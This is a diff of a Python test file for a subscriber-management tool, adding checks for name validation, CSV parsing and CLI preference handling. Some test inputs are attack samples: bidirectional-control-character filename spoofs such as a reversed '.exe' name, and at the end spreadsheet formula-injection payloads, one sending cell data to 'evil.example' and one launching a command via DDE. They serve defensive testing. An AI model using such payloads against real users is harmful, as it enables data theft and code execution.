@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from conftest import Project
+from library_support import small_library
 from pg_support import BACKENDS, pg_url, postgres_server, rows, store_location  # noqa: F401  (fixtures)
 from policy_site.notify.addresses import (
     InvalidAddress,
@@ -100,6 +101,10 @@ def test_names_are_one_line() -> None:
             normalise_name(bad)
     with pytest.raises(InvalidAddress, match="longer"):
         normalise_name("x" * 201)
+    for bad in ("Eve \u202egnp.exe", "Eve \u202aX\u202c", "Eve \u2067X\u2069", "\u2068Eve"):  # shown reordered
+        with pytest.raises(InvalidAddress, match="bidirectional control characters"):
+            normalise_name(bad)
+    assert normalise_name("שלום Eve") == "שלום Eve"  # right-to-left text itself is fine
 
 
 def test_masking() -> None:
@@ -145,11 +150,11 @@ def test_parse_csv_reports_every_bad_row_with_its_line() -> None:
 
 def test_parse_csv_without_header_and_with_extra_columns() -> None:
     rows, problems = parse_csv("a@example.org,Ann\nB@example.org\na@EXAMPLE.org,\n", "x.csv")
-    assert not problems and rows == [("a@example.org", "Ann", None), ("B@example.org", "", None)]
+    assert not problems and [r[:3] for r in rows] == [("a@example.org", "Ann", None), ("B@example.org", "", None)]
     rows, problems = parse_csv("\ufeffName;x\n", "x.csv")
     assert problems == ["x.csv:1: the header row has no 'email' column"]
     rows, problems = parse_csv("subscribed,EMAIL,Name\n2026-01-02T03:04:05Z,c@example.org,Cee\n", "x.csv")
-    assert not problems and rows == [("c@example.org", "Cee", "2026-01-02T03:04:05Z")]
+    assert not problems and [r[:3] for r in rows] == [("c@example.org", "Cee", "2026-01-02T03:04:05Z")]
     rows, problems = parse_csv("subscribed,EMAIL,Name\nyesterday,c@example.org,Cee\n", "x.csv")
     assert problems == ["x.csv:2: subscribed must be a time like 2026-01-31T12:00:00Z, not 'yesterday'"]
 
@@ -238,6 +243,50 @@ def test_cli_import_export_round_trip(project: Project, tmp_path: Path, new_stor
     project.run("subscribers", "import", str(dump), env=other, check=True)
     assert project.run("subscribers", "export", env=other, check=True).stdout.splitlines()[1:] == \
         exported.splitlines()[1:]
+
+
+def test_cli_add_with_preferences_list_and_export(tmp_path: Path) -> None:
+    """--documents, --changes, --language: checked against what the project offers; those not given are kept."""
+    library = small_library(tmp_path / "library")
+    env = _env(tmp_path)
+
+    def listed(address: str) -> list[str]:
+        lines = library.run("subscribers", "list", env=env, check=True).stdout.splitlines()
+        assert lines[0].split() == ["address", "subscribed", "documents", "changes", "language", "confirmed", "name"]
+        return next(line.split() for line in lines[1:] if line.startswith(address))
+
+    library.run("subscribers", "add", "ann@example.org", "--name", "Ann", "--documents", "terms,privacy",
+                "--changes", "all", "--language", "de", env=env, check=True)
+    assert listed("ann@")[2:] == ["privacy,terms", "all", "de", "-", "Ann"]
+    library.run("subscribers", "add", "ann@example.org", "--changes", "material", env=env, check=True)
+    assert listed("ann@")[2:] == ["privacy,terms", "material", "de", "-", "Ann"]
+    library.run("subscribers", "add", "ann@example.org", "--documents", "all", "--language", "", env=env, check=True)
+    assert listed("ann@")[2:] == ["*", "material", "-", "-", "Ann"]
+    library.run("subscribers", "add", "bob@example.org", env=env, check=True)
+    assert listed("bob@")[2:] == ["*", "material", "-", "-"]
+
+    refused = {("--documents", "privacy,cookies"): "--documents takes 'all' or document ids separated by commas "
+                                                    "(documents: privacy, terms), not 'privacy,cookies'",
+               ("--documents", ","): "--documents takes 'all'",
+               ("--language", "fr"): "--language fr: no document is translated into it (translations: de)"}
+    for args, message in refused.items():
+        result = library.run("subscribers", "add", "bob@example.org", *args, env=env)
+        assert result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr, result
+    bad_kind = library.run("subscribers", "add", "bob@example.org", "--changes", "some", env=env)
+    assert bad_kind.returncode == 2 and "invalid choice: 'some'" in bad_kind.stderr
+    assert listed("bob@")[2:] == ["*", "material", "-", "-"]
+
+    library.run("subscribers", "add", "ann@example.org", "--documents", "terms", "--changes", "all", "--language",
+                "de", env=env, check=True)
+    exported = library.run("subscribers", "export", env=env, check=True).stdout
+    table = list(csv.DictReader(io.StringIO(exported)))
+    assert [(r["email"], r["documents"], r["changes"], r["language"], r["confirmed"]) for r in table] == [
+        ("ann@example.org", "terms", "all", "de", ""), ("bob@example.org", "*", "material", "", "")]
+    dump = tmp_path / "dump.csv"
+    dump.write_text(exported, encoding="utf-8")
+    other = {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "other.sqlite3")}
+    library.run("subscribers", "import", str(dump), env=other, check=True)
+    assert library.run("subscribers", "export", env=other, check=True).stdout == exported
 
 
 FORMULAS = {"eq@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"click")', "plus@example.org": "+cmd|' /C calc'!A0",
